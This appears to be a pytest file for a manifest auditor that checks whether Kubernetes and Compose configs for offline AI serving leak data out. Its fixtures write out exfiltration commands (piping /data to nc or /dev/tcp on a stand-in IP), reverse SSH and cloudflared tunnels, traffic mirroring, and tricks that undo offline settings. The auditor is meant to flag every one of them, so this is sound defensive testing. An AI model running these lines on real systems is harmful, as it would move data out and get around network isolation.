"""Ways in which a manifest could leak and be called compliant, each tried once and named."""

from __future__ import annotations

from pathlib import Path

import pytest

from auditor import api

SAMPLES = Path(__file__).parents[3] / "samples" / "manifests"
SITE = api.load_site(SAMPLES / "site.yaml")
AT = "2026-11-26T08:00:00Z"
IMAGE = "harbor.corp.example/tools/kit@sha256:" + "b" * 64
VLLM = "harbor.corp.example/ai/vllm-openai@sha256:" + "a" * 64
OFFLINE = """
        - {name: HF_HUB_OFFLINE, value: "1"}
        - {name: HF_HUB_DISABLE_TELEMETRY, value: "1"}
        - {name: VLLM_NO_USAGE_STATS, value: "1"}
        - {name: DO_NOT_TRACK, value: "1"}
        - name: VLLM_API_KEY
          valueFrom: {secretKeyRef: {name: keys, key: api}}"""
DENY = """
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: {name: deny, namespace: ai}
spec: {podSelector: {}, policyTypes: [Ingress, Egress]}
---"""
TLS = "--ssl-certfile /tls/tls.crt --ssl-keyfile /tls/tls.key"


def pod(*, image: str = IMAGE, container: str = "", spec: str = "", extra: str = "") -> str:
    return f"""{DENY}
apiVersion: v1
kind: Pod
metadata: {{name: p, namespace: ai}}
spec:
  automountServiceAccountToken: false
  securityContext: {{runAsNonRoot: true, runAsUser: 1000}}
  containers:
    - name: c
      image: {image}
      securityContext: {{readOnlyRootFilesystem: true}}
{container}
{spec}
---
{extra}
"""


@pytest.fixture
def gated(tmp_path, monkeypatch, criteria):
    """Return a function that gates text and returns the exit code and the rules that failed."""
    monkeypatch.chdir(tmp_path)

    def gate(text: str, name: str = "a.yaml") -> tuple[int, set[str]]:
        Path(name).write_text(text)
        judgement = api.evaluate(api.gate((Path(name),), site=SITE, at=AT), criteria)
        failed = {f.rule for f in judgement.findings.findings if f.verdict == "fail"}
        return api.summary(judgement).exit_code, failed

    return gate


def test_the_pod_that_all_of_these_start_from_is_compliant(gated):
    assert gated(pod()) == (0, set())
    sealed = f"      command: [vllm, serve, /models/q, --ssl-certfile=/t, --ssl-keyfile=/t]\n      env:{OFFLINE}"
    assert gated(pod(image=VLLM, container=sealed)) == (0, set())


@pytest.mark.parametrize(
    "script",
    [
        "HF_HUB_OFFLINE=0 vllm serve /models/q",
        "export HF_HUB_OFFLINE=0; exec vllm serve /models/q",
        "unset HF_HUB_OFFLINE; exec vllm serve /models/q",
        "exec env -u HF_HUB_OFFLINE vllm serve /models/q",
        "env -i VLLM_API_KEY=$VLLM_API_KEY vllm serve /models/q",
        "HF_HUB_OFFLINE=no && vllm serve /models/q",
    ],
)
def test_a_command_that_takes_back_what_the_environment_sets(gated, script):
    container = f"      command: [sh, -c, '{script} {TLS}']\n      env:{OFFLINE}"
    code, failed = gated(pod(image=VLLM, container=container))
    assert code == 1
    assert "TEL-FET-001" in failed


@pytest.mark.parametrize(
    "script",
    [
        "if true; then export HF_HUB_OFFLINE=$X; fi; exec vllm serve /models/q",
        "test -f /x || export HF_HUB_OFFLINE=0; exec vllm serve /models/q",
        ". /config/env.sh; export HF_HUB_OFFLINE=$(cat /o); exec vllm serve /models/q",
    ],
)
def test_a_command_that_may_take_it_back_is_not_a_pass(gated, script):
    container = f"      command: [sh, -c, '{script} {TLS}']\n      env:{OFFLINE}"
    assert gated(pod(image=VLLM, container=container))[0] == 3


def test_a_variable_that_the_shell_does_not_export_seals_nothing(gated):
    env = OFFLINE.replace('- {name: HF_HUB_OFFLINE, value: "1"}', '- {name: X, value: "1"}')
    start = f"exec vllm serve /models/q {TLS}"
    own = f"      command: [sh, -c, 'HF_HUB_OFFLINE=1; {start}']\n      env:{env}"
    assert "TEL-FET-001" in gated(pod(image=VLLM, container=own))[1]
    other = f"      command: [sh, -c, 'HF_HUB_OFFLINE=1 true; {start}']\n      env:{env}"
    assert gated(pod(image=VLLM, container=other))[0] == 3
    exported = f"      command: [sh, -c, 'export HF_HUB_OFFLINE=1; {start}']\n      env:{env}"
    assert gated(pod(image=VLLM, container=exported)) == (0, set())


@pytest.mark.parametrize(
    "command",
    [
        "[huggingface-cli, download, Qwen/Qwen2.5-7B]",
        "[ollama, pull, qwen2]",
        '[git, clone, "git@code.vendor.example:a/b.git"]',
        '[sh, -c, "curl -sLO files.vendor.example/x"]',
        '[sh, -c, "cat /data | nc 203.0.113.5 443"]',
        '[bash, -c, "cat /data > /dev/tcp/203.0.113.5/443"]',
        '[scp, /models/x.bin, "u@host.vendor.example:/x"]',
        '[rsync, -a, /models, "host.vendor.example::m"]',
        '[ssh, -R, "80:localhost:80", tunnel.vendor.example]',
        "[cloudflared, tunnel, run]",
        '[python, -c, "snapshot_download(\\"Qwen/Q\\")"]',
        '[sh, -c, "dig @203.0.113.53 x.corp.example"]',
    ],
)
@pytest.mark.parametrize("place", ["command", "postStart", "livenessProbe"])
def test_a_program_that_calls_out(gated, command, place):
    where = {
        "command": f"      command: {command}",
        "postStart": f"      lifecycle: {{postStart: {{exec: {{command: {command}}}}}}}",
        "livenessProbe": f"      livenessProbe: {{exec: {{command: {command}}}}}",
    }[place]
    assert gated(pod(container=where)) == (1, {"PER-REF-001"})


@pytest.mark.parametrize(
    "command", ['[sh, -c, "pip install x && serve"]', '[rclone, copy, /data, "remote:x"]']
)
def test_a_program_whose_source_is_in_the_image_is_undecided(gated, command):
    assert gated(pod(container=f"      command: {command}"))[0] == 3


def test_an_offline_download_calls_nobody(gated):
    container = """      command: [huggingface-cli, download, Qwen/Q]
      env: [{name: HF_HUB_OFFLINE, value: "1"}]"""
    assert gated(pod(container=container)) == (0, set())


@pytest.mark.parametrize(
    "spec",
    [
        "volumes: [{name: m, nfs: {server: nas.vendor.example, path: /m}}]",
        "volumes: [{name: m, nfs: {server: 203.0.113.9, path: /m}}]",
        "volumes: [{name: m, gitRepo: {repository: 'https://code.vendor.example/x'}}]",
        "volumes: [{name: m, csi: {driver: blob.csi.azure.com}}]",
    ],
)
def test_a_volume_that_lies_outside(gated, spec):
    assert gated(pod(spec=f"  {spec}"))[1] == {"PER-REF-001"}


@pytest.mark.parametrize(
    "extra",
    [
        "{apiVersion: v1, kind: PersistentVolume, metadata: {name: v}, spec: {nfs: {server: 203.0.113.9, path: /m}}}",
        "{apiVersion: admissionregistration.k8s.io/v1, kind: MutatingWebhookConfiguration, metadata: {name: w}, webhooks: [{clientConfig: {url: 'https://hook.vendor.example/m'}}]}",
        "{apiVersion: networking.k8s.io/v1, kind: Ingress, metadata: {name: i, namespace: ai, annotations: {nginx.ingress.kubernetes.io/mirror-target: 'https://tap.vendor.example/$request_uri'}}, spec: {tls: [{secretName: s}]}}",
        "{apiVersion: networking.istio.io/v1, kind: VirtualService, metadata: {name: v, namespace: ai}, spec: {hosts: [llm], http: [{mirror: {host: tap.vendor.example}}]}}",
        "{apiVersion: networking.istio.io/v1, kind: ServiceEntry, metadata: {name: s, namespace: ai}, spec: {location: MESH_INTERNAL, hosts: [a.corp.example], endpoints: [{address: 203.0.113.4}]}}",
        '{apiVersion: v1, kind: ConfigMap, metadata: {name: coredns}, data: {Corefile: ".:53 {\\n forward . 203.0.113.53\\n}"}}',
        '{apiVersion: v1, kind: ConfigMap, metadata: {name: c}, data: {app.yaml: "endpoint: api.vendor.example"}}',
        "{apiVersion: v1, kind: ConfigMap, metadata: {name: c}, binaryData: {app.yaml: ZW5kcG9pbnQ6IGh0dHBzOi8vYXBpLnZlbmRvci5leGFtcGxl}}",
        '{apiVersion: v1, kind: Secret, metadata: {name: s}, stringData: {c.yaml: "endpoint: https://api.vendor.example"}}',
        "{apiVersion: v1, kind: Endpoints, metadata: {name: e}, subsets: [{notReadyAddresses: [{ip: 203.0.113.5}]}]}",
        "{apiVersion: serving.kserve.io/v1alpha1, kind: TrainedModel, metadata: {name: t}, spec: {model: {storageUri: 'https://models.vendor.example/x'}}}",
        "{apiVersion: x.corp.example/v1, kind: Server, metadata: {name: t}, spec: {image: 'registry.vendor.example/x:1'}}",
        "{apiVersion: x.corp.example/v1, kind: Server, metadata: {name: t}, spec: {image: {repository: registry.vendor.example/x, tag: '1'}}}",
        "{apiVersion: v1, kind: Service, metadata: {name: s}, spec: {type: LoadBalancer, loadBalancerSourceRanges: [203.0.113.0/24]}}",
    ],
)  # fmt: skip
def test_an_object_that_leads_outside(gated, extra):
    assert gated(pod(extra=extra))[0] == 1


def test_a_policy_that_no_cluster_enforces_denies_nothing(gated):
    for group in ("extensions/v1beta1", "example.com/v1"):
        text = pod(image=VLLM).replace("networking.k8s.io/v1", group, 1)
        assert "WRK-EGR-001" in gated(text)[1], group


def test_a_value_is_an_address_by_its_port_whatever_its_name(gated):
    for value in ("api.vendor.example:443", '[{"api_base": "api.vendor.example"}]'):
        text = pod(container=f"      env: [{{name: UPSTREAM, value: '{value}'}}]")
        assert gated(text)[0] == 1, value


def test_a_container_that_nothing_keeps_from_root_fails_and_is_not_undecided(gated):
    text = pod().replace("runAsNonRoot: true, runAsUser: 1000", "fsGroup: 1000")
    assert gated(text) == (1, {"WRK-SEC-005"})
    assert gated(pod().replace(", runAsUser: 1000", "")) == (0, set())


COMPOSE = f"""
services:
  tool:
    image: {IMAGE}
    user: "1000"
    read_only: true
    networks: [inner]
    SETTING
networks:
  inner: {{internal: true}}
"""


@pytest.mark.parametrize(
    ("setting", "rule"),
    [
        ("healthcheck: {test: 'curl -f files.vendor.example/x'}", "PER-REF-001"),
        ("healthcheck: {test: [CMD, curl, files.vendor.example/x]}", "PER-REF-001"),
        ("post_start: [{command: 'nc 203.0.113.5 443'}]", "PER-REF-001"),
        ("build: {context: 'https://code.vendor.example/x.git'}", "PER-REF-001"),
        ("logging: {driver: awslogs}", "PER-REF-001"),
        ("use_api_socket: true", "WRK-SEC-003"),
        ("volumes: ['/run/../var//run/docker.sock:/s']", "WRK-SEC-003"),
    ],
)
def test_a_compose_service_that_leads_out(gated, setting, rule):
    assert gated(COMPOSE.replace("SETTING", setting))[1] == {rule}


def test_compose_users_and_networks_that_only_look_safe(gated):
    assert gated(COMPOSE.replace("SETTING", ""))[0] == 0
    assert gated(COMPOSE.replace("SETTING", "").replace('"1000"', '"00"'))[1] == {"WRK-SEC-005"}
    outer = COMPOSE.replace("SETTING", "").replace(
        "internal: true", "internal: true, external: true"
    )
    assert gated(outer)[1] == {"WRK-EGR-006"}
